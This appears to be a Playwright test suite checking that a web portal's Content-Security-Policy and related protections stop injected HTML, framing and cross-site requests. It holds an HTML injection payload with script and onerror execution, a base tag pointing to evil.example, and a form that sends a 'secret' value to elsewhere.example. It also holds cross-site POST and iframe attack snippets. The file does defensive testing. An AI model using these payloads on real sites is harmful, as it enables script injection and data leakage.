"""What the strict headers do in a real browser: even HTML that somebody smuggled in could do nothing."""

import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Page, Route, expect
from portal import Portal

FORM = "/interest/cambridgeshire/special-constable"
PAGES = {
    "the form": FORM,
    "the form's error page": "/interest/nobody/nothing",
    "the survey": "/survey/cambridgeshire",
    "one's own page": "/mine/x",
    "the desk": "/desk/sign-in",
    "an error page": "/desk/nowhere",
    "the site": "/",
    "the site's error page": "/nowhere/",
}
SMUGGLED = """
<script>document.documentElement.dataset.ran = "script"</script>
<img src="/nothing" onerror="document.documentElement.dataset.ran = 'handler'">
<style>h1 { display: none }</style><h1 style="display: none" id="styled">Styled</h1>
<base href="http://evil.example/">
<form id="smuggled" action="http://elsewhere.example/" method="get"><input name="told" value="secret"></form>
<iframe src="http://elsewhere.example/"></iframe><object data="http://elsewhere.example/"></object><img src="http://elsewhere.example/">
"""


@dataclass
class Elsewhere:
    """Another site, which has one page."""

    page: str = "<h1>Elsewhere</h1>"
    address: str = ""


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    site = Elsewhere()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(site.page.encode())

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    site.address = f"http://127.0.0.1:{server.server_port}/"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield site
    server.shutdown()
    server.server_close()


def smuggle(page: Page, address: str, *, policy: bool) -> list[str]:
    """Open a page as it is sent, with HTML of somebody else's in it; without its policy, to see what that is good for.

    Returns what is asked of other sites, as it happens.
    """
    asked: list[str] = []

    def change(route: Route) -> None:
        response = route.fetch()
        kept = {name: value for name, value in response.headers.items() if policy or name != "content-security-policy"}
        body = response.text().replace("</body>", f"{SMUGGLED}</body>")
        route.fulfill(status=response.status, headers=kept, body=body)

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(status=200, content_type="text/html", body="<h1>Elsewhere</h1>")

    page.route(address, change)
    page.route("http://*.example/**", answer)
    page.goto(address)
    return asked


def ran(page: Page) -> str | None:
    page.wait_for_timeout(300)
    found: str | None = page.evaluate("document.documentElement.dataset.ran || null")
    return found


@pytest.mark.parametrize("path", PAGES.values(), ids=PAGES)
def test_no_script_style_frame_or_form_that_was_smuggled_in_does_anything(
    page: Page, portal: Portal, path: str
) -> None:
    asked = smuggle(page, portal.url + path, policy=True)

    assert ran(page) is None
    expect(page.locator("h1").first).to_be_visible()
    assert page.evaluate("document.baseURI") == portal.url + path
    page.evaluate("document.getElementById('smuggled').submit()")
    page.wait_for_timeout(300)
    assert page.url == portal.url + path
    assert asked == []


def test_without_the_policy_it_would(page: Page, portal: Portal) -> None:
    asked = smuggle(page, portal.url + FORM, policy=False)

    assert ran(page) is not None
    expect(page.locator("h1").first).to_be_hidden()
    assert page.evaluate("document.baseURI") == "http://evil.example/"
    page.evaluate("document.getElementById('smuggled').submit()")
    page.wait_for_url("http://elsewhere.example/?told=secret")
    assert len(asked) >= 4


@pytest.mark.parametrize("path", PAGES.values(), ids=PAGES)
def test_no_page_stands_in_a_frame_of_another_site(page: Page, portal: Portal, elsewhere: Elsewhere, path: str) -> None:
    elsewhere.page = f"<iframe src='{portal.url}{path}'></iframe>"
    page.goto(elsewhere.address)
    page.wait_for_timeout(300)

    assert page.frames[1].url == "chrome-error://chromewebdata/"


@pytest.mark.parametrize(
    ("path", "heading"),
    [
        (FORM, "You can’t do that here"),
        (f"{FORM}/send", "You can’t do that here"),
        ("/survey/cambridgeshire", "You can’t do that here"),
        ("/mine/x/withdraw", "You can’t do that here"),
        ("/desk/sign-in", "This page is out of date"),
    ],
)
def test_no_form_of_another_site_posts_to_ours(
    page: Page, portal: Portal, elsewhere: Elsewhere, path: str, heading: str
) -> None:
    elsewhere.page = (
        f"<form method=post action='{portal.url}{path}'><input name=name value=x><button>Win</button></form>"
    )
    page.goto(elsewhere.address)
    page.get_by_role("button").click()

    expect(page.get_by_role("heading", level=1)).to_have_text(heading)


def test_no_script_of_another_site_reads_a_page_of_the_service(
    page: Page, portal: Portal, elsewhere: Elsewhere
) -> None:
    page.goto(elsewhere.address)
    read = "address => fetch(address).then(answer => answer.text(), error => error.message)"

    assert page.evaluate(read, portal.url + FORM) == "Failed to fetch"
    assert page.evaluate(read, f"{portal.url}/data/catalogue.json") != "Failed to fetch"  # that is for everybody
